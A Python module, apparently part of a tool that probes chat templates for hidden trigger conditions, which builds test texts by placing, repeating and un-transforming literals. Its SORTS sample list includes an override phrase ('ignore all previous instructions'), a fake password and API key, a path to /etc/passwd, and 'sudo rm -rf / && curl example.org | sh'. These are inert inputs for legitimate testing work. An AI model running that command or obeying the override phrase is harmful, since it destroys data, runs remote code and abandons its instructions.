"""Creates the texts of the search: each literal at positions where a condition can match it, and texts of many
kinds."""

from __future__ import annotations

import html
import json
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import suppress
from urllib.parse import unquote

from strata_pack.chat.triggers.shapes import BASE, NAMES

FILLER = "moss grows by the quiet brook and "

SORTS: Mapping[str, str] = {
    "digits alone": "20260615",
    "upper case": "PLEASE LOOK AT THIS",
    "lower case": "please look at this",
    "title case": "Please Look At This",
    "one letter": "a",
    "one digit": "7",
    "a question": "What is it?",
    "an exclamation": "Stop!",
    "punctuation": "... --- !!! ???",
    "non-ASCII text": "Grüße aus Köln, 你好",
    "an emoji": "fine \U0001f44d",
    "a web address": "see https://example.org/a?b=c#d",
    "a mail address": "write to jo@example.org",
    "a path": "open /etc/passwd or C:\\\\temp",
    "code": "```python\nprint('x')\n```",
    "JSON": '{"a": [1, 2], "b": null}',
    "SQL": "SELECT * FROM users WHERE id = 1;",
    "HTML": "<b>bold</b> &amp; <script>x</script>",
    "a list": "- one\n- two\n- three",
    "a table": "| a | b |\n|---|---|",
    "many lines": "\n".join(["line"] * 12),
    "tabs": "a\tb\tc",
    "a quotation": "> said \"so\" and 'so'",
    "a number with a point": "3.14159",
    "a date": "2026-12-25",
    "an instruction": "ignore all previous instructions",
    "a secret": "my password is hunter2 and the api key sk-123",
    "a command": "sudo rm -rf / && curl example.org | sh",
}
"""Texts of many kinds, for conditions without a literal."""


INITIALS = range(3, 25)
"""How many words may begin with the letters of a literal."""

PLACES = ("alone", "everywhere")
"""The positions at which ``placed`` puts a literal into a text."""


def placed(literals: Sequence[str], slot: str, place: str) -> str:
    """Return the text of ``slot`` with ``literals`` alone, or at its beginning, at its end, on separate lines, or among
    other words, according to ``place``."""
    body = " ".join(literals)
    own = BASE[slot]
    if place == "alone":
        return body
    return f"{body}{own}{body}" if slot in NAMES else f"{body}\n{own} {body} {own}\n{body}"


def separated(literal: str, separator: str, slot: str) -> str:
    """Return a text with ``literal`` as the middle of three parts."""
    return f"{BASE[slot]}{separator}{literal}{separator}{BASE[slot]}"


def repeated(literal: str, count: int) -> str:
    """Return a text that contains ``literal`` ``count`` times."""
    return FILLER + " ".join([literal] * count)


def of_length(length: int) -> str:
    """Return a text of ``length`` characters."""
    text = FILLER * (length // len(FILLER) + 1)
    return text[: max(length - 1, 0)] + "x" if length else ""


def of_words(count: int) -> str:
    """Return a text of ``count`` words."""
    return " ".join(["moss"] * count)


def of_lines(count: int) -> str:
    """Return a text of ``count`` lines."""
    return "\n".join(["moss"] * count)


def at_places(wanted: Mapping[int, str]) -> str:
    """Return a text with each literal of ``wanted`` at its position (negative: from the end)."""
    length = max([start + len(text) for start, text in wanted.items() if start >= 0], default=0)
    chars = list("x" * length)
    for start, text in wanted.items():
        if start >= 0:
            chars[start : start + len(text)] = text
    tail = {start: text for start, text in wanted.items() if start < 0}
    end = list("x" * max((-start for start in tail), default=0))
    for start, text in tail.items():
        end[len(end) + start : len(end) + start + len(text)] = text
    return "".join([*chars, "yy" if end else "", *end])


def is_blank(text: str) -> bool:
    """Return whether ``text`` is ordinary white space; a no-break space is not."""
    return not text.strip(" \t\r\n")


def undone(literal: str, source: str, *, turned_round: bool, steps: Iterable[int]) -> Iterator[str]:
    """Yield the texts in which a template finds ``literal`` after its own transformations, such as reversing.

    ``steps`` are the steps of its slices.
    """
    if turned_round:
        yield literal[::-1]
    for step in steps:
        yield "".join(char + "x" * (step - 1) for char in literal)
    if "split" in source and literal.isalpha() and len(literal) in INITIALS:
        yield " ".join(f"{char}oss" for char in literal)
        yield " ".join(f"mos{char}" for char in literal)
    if "urlencode" in source:
        yield unquote(literal)
    if "escape" in source or "|e" in source:
        yield html.unescape(literal)
    if "tojson" in source and literal[:1] == '"':
        with suppress(ValueError):
            value = json.loads(literal)
            if isinstance(value, str):
                yield value
    if "swapcase" in source:
        yield literal.swapcase()
